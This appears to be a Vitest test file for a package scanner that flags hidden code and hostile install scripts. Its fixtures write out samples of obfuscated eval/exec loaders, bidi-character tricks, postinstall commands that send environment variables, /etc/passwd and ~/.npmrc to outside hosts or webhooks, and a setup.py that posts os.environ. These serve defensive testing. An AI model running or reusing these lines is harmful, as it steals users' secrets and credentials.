import { describe, expect, test } from 'vitest';
import { scanFiles } from '../finding/index.ts';
import { createDependenciesScanner } from './index.ts';

function found(files: { readonly [path: string]: string }): readonly string[] {
  return scanFiles(createDependenciesScanner(), files)
    .findings.filter(({ rule }) => rule === 'hidden-code' || rule === 'hostile-install-script')
    .map(({ rule, severity, place }) => `${rule} ${severity} ${place.file}:${place.line}`);
}

const manifest = (scripts: object) => JSON.stringify({ name: 'x', scripts }, null, 1);

describe('code that nobody reads', () => {
  test.each([
    ['a.js', 'eval(atob("YQ=="))'],
    ['a.ts', 'new Function(Buffer.from(data, "base64"))()'],
    ['a.py', 'exec(__import__("base64").b64decode(b"YQ=="))'],
    ['a.py', 'exec(zlib.decompress(base64.b64decode(x)))'],
    ['a.py', 'exec(compile(marshal.loads(x), "", "exec"))'],
    ['a.js', `const x = 1;${' '.repeat(300)}require("child_process").exec(x)`],
    ['a.js', `const s = decode("${'\u{E0101}\u{FE01}'.repeat(30)}");`],
  ])('is told: %s %s', (path, text) => {
    expect(found({ [path]: text })).toEqual([`hidden-code high ${path}:1`]);
  });

  test.each(['a.go', 'a.ts', 'a.py'])('is told when it is shown in another order than it is run: %s', (path) => {
    expect(found({ [path]: 'x = 1\nif level != "user\u202E \u2066// only admins\u2069 \u2066" {' })).toEqual([
      `hidden-code medium ${path}:2`,
    ]);
  });

  test.each([
    [
      'a.js',
      'const image = Buffer.from(text, "base64"); const { exec } = require("child_process"); exec("git status");',
    ],
    ['a.js', `const flag = "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}";`],
    ['a.js', `const table = [\n  1,${' '.repeat(300)}\n  2,\n];`],
    ['a.py', 'raw = base64.b64decode(text)\nexec(open("setup.cfg").read())'],
    ['a.py', 'cursor.exec("select 1")'],
  ])('is not: %s %s', (path, text) => {
    expect(found({ [path]: text })).toEqual([]);
  });
});

describe('what runs at installation', () => {
  test.each([
    ['curl -d "$(env)" https://example.org', 'critical'],
    ['wget --post-file=@/etc/passwd http://x; curl -F a=@~/.npmrc http://x', 'critical'],
    ["node -e \"eval(Buffer.from('YQ==','base64').toString())\"", 'critical'],
    ['echo YQ== | base64 -d | sh', 'critical'],
    ['curl -s https://discord.com/api/webhooks/1/a -d hi', 'critical'],
    ['curl -fsSL https://example.org/install.sh | bash', 'medium'],
  ])('is told when it steals, hides or fetches: %s', (postinstall, severity) => {
    expect(found({ 'package.json': manifest({ postinstall }) })).toEqual([
      `hostile-install-script ${severity} package.json:4`,
    ]);
  });

  test.each([
    'husky install',
    'node-gyp rebuild',
    'patch-package',
    'tsc -p . && node scripts/copy.js',
    'npm run build',
  ])('is not when it builds something: %s', (prepare) => {
    expect(found({ 'package.json': manifest({ prepare }), 'scripts/copy.js': 'copy();' })).toEqual([]);
  });

  test('is followed into the files that it starts', () => {
    const garbled = Array.from({ length: 80 }, (_, index) => `var _0x${(4096 + index).toString(16)}=1;`).join('\n');
    const files = {
      'package.json': manifest({ install: 'node .' }),
      'index.js': "require('./a/b')",
      'a/b.js': garbled,
    };

    expect(found(files)).toEqual(['hostile-install-script high package.json:4']);
    expect(found({ ...files, 'package.json': manifest({ test: 'node .' }) })).toEqual([]);
  });

  test('is also setup.py, which pip runs', () => {
    const steals = 'import os, requests\nrequests.post("https://webhook.site/1", data=str(os.environ))\n';

    expect(found({ 'pkg/setup.py': steals })).toEqual(['hostile-install-script critical pkg/setup.py:2']);
    expect(found({ 'pkg/other.py': steals })).toEqual([]);
  });

  test('takes no longer for text that is made to be slow', () => {
    const long = 200_000;
    const started = process.cpuUsage();

    found({
      'a.js': `;${' '.repeat(long)}\n${'eval('.repeat(long / 5)}base64`,
      'b.py': `${'exec(a('.repeat(long / 7)} b64decode`,
      'package.json': manifest({ install: 'curl '.repeat(long / 5) }),
    });

    expect(process.cpuUsage(started).user).toBeLessThan(2_000_000);
  });
});
